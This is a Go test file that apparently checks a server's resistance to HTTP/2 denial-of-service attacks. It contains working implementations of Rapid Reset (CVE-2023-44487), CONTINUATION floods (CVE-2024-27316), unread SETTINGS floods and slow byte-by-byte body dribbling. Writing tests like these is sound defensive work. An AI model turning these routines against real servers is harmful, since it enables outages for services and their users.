package siege_test

import (
	"bufio"
	"bytes"
	"context"
	"fmt"
	"net"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// A bare client speaks HTTP/2 frame by frame.
type bare struct {
	net.Conn
	*http2.Framer
	w      *bufio.Writer
	block  []byte // the headers of a call
	goaway atomic.Value
	acked  chan struct{} // the server has answered a ping
	ended  chan struct{} // the server closed the connection
}

// speak opens a connection. deaf ones never read.
func speak(ctx context.Context, r *raid, p port, path string, deaf bool) *bare {
	r.Helper()
	conn := r.dial(ctx, p)
	b := &bare{Conn: conn, w: bufio.NewWriterSize(conn, 32<<10), acked: make(chan struct{}, 1), ended: make(chan struct{})}
	b.Framer = http2.NewFramer(b.w, bufio.NewReader(conn))
	b.Framer.AllowIllegalWrites = true
	_, _ = b.w.WriteString(http2.ClientPreface)
	_ = b.WriteSettings()
	var block bytes.Buffer
	h := hpack.NewEncoder(&block)
	for _, f := range [][2]string{
		{":method", "POST"}, {":scheme", "http"}, {":path", path}, {":authority", "port"}, {"content-type", "application/grpc"}, {"te", "trailers"},
	} {
		_ = h.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]})
	}
	b.block = block.Bytes()
	if !deaf {
		go b.listen()
	}
	return b
}

// listen reads until the end.
func (b *bare) listen() {
	defer close(b.ended)
	for {
		f, err := b.ReadFrame()
		if err != nil {
			return
		}
		switch f := f.(type) {
		case *http2.GoAwayFrame:
			b.goaway.Store(fmt.Sprintf("GOAWAY %v %q", f.ErrCode, f.DebugData()))
		case *http2.PingFrame:
			if f.IsAck() && f.Data == lastPing {
				b.acked <- struct{}{}
			}
		}
	}
}

// open begins a call.
func (b *bare) open(stream uint32, end bool) error {
	return b.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: b.block, EndHeaders: true, EndStream: end})
}

// lastPing is what the last ping of a client says.
var lastPing = [8]byte{'l', 'a', 's', 't'}

// verdict waits until the server has taken all that was sent, or has ended the
// connection, and tells which.
func (b *bare) verdict(t *testing.T) string {
	t.Helper()
	if b.WritePing(false, lastPing) == nil {
		_ = b.w.Flush()
	}
	end := "the connection goes on"
	select {
	case <-b.acked:
	case <-b.ended:
		end = "the connection was ended"
	case <-time.After(goodTimeout):
		t.Error("neither an answer nor an end")
	}
	if g, ok := b.goaway.Load().(string); ok {
		end += " " + g
	}
	return end
}

// repeat writes so many frames, or until the connection ends, and returns how
// many were written.
func (b *bare) repeat(ctx context.Context, n int, write func(i int) error) int {
	stop := context.AfterFunc(ctx, func() { b.Conn.Close() })
	defer stop()
	for i := range n {
		if err := write(i); err != nil {
			return i
		}
	}
	if err := b.w.Flush(); err != nil {
		return n - 1
	}
	return n
}

// rapidReset opens streams and resets them at once: CVE-2023-44487.
func rapidReset(ctx context.Context, r *raid, p port, path string) string {
	r.Helper()
	const streams = 4000
	b := speak(ctx, r, p, path, false)
	n := b.repeat(ctx, streams, func(i int) error {
		id := uint32(2*i + 1)
		if err := b.open(id, false); err != nil {
			return err
		}
		if err := b.WriteData(id, true, []byte{0, 0, 0, 0, 0}); err != nil {
			return err
		}
		return b.WriteRSTStream(id, http2.ErrCodeCancel)
	})
	return fmt.Sprintf("%d streams opened and reset, %s", n, b.verdict(r.T))
}

// continuations are headers that do not end: CVE-2024-27316 and its like.
func continuations(ctx context.Context, r *raid, p port, path string, fragment []byte, n int) string {
	r.Helper()
	b := speak(ctx, r, p, path, false)
	if err := b.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: b.block}); err != nil {
		r.Fatal(err)
	}
	n = b.repeat(ctx, n, func(int) error { return b.WriteContinuation(1, false, fragment) })
	return fmt.Sprintf("%d CONTINUATION frames of %d bytes, %s", n, len(fragment), b.verdict(r.T))
}

// deafness asks for answers that it does not read: that settings were taken. Pings
// would be answered with the end, soon.
func deafness(ctx context.Context, r *raid, p port, path string) string {
	r.Helper()
	var all sync.WaitGroup
	var sum atomic.Int64
	const deaf = 4 // more would only take turns with the good client in this process
	for range deaf {
		b := speak(ctx, r, p, path, true)
		all.Go(func() {
			sum.Add(int64(b.repeat(ctx, 1_000_000, func(i int) error {
				return b.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: uint32(i)})
			})))
		})
	}
	all.Wait()
	return fmt.Sprintf("%d SETTINGS frames on %d connections whose answers are not read", sum.Load(), deaf)
}

// dribbles sends the body of calls byte by byte, on a thousand streams.
func dribbles(ctx context.Context, r *raid, p port, path string) string {
	r.Helper()
	b := speak(ctx, r, p, path, false)
	const streams = 1000
	_ = b.repeat(ctx, streams, func(i int) error { return b.open(uint32(2*i+1), false) })
	// A message of 4 MiB is told, and comes in bytes.
	n := b.repeat(ctx, 20*streams, func(i int) error {
		return b.WriteData(uint32(2*(i%streams)+1), false, []byte{0, 0, 0x40, 0, 0}[i/streams%5:][:1])
	})
	return fmt.Sprintf("%d bytes, one in a frame, on %d streams, %s", n, streams, b.verdict(r.T))
}
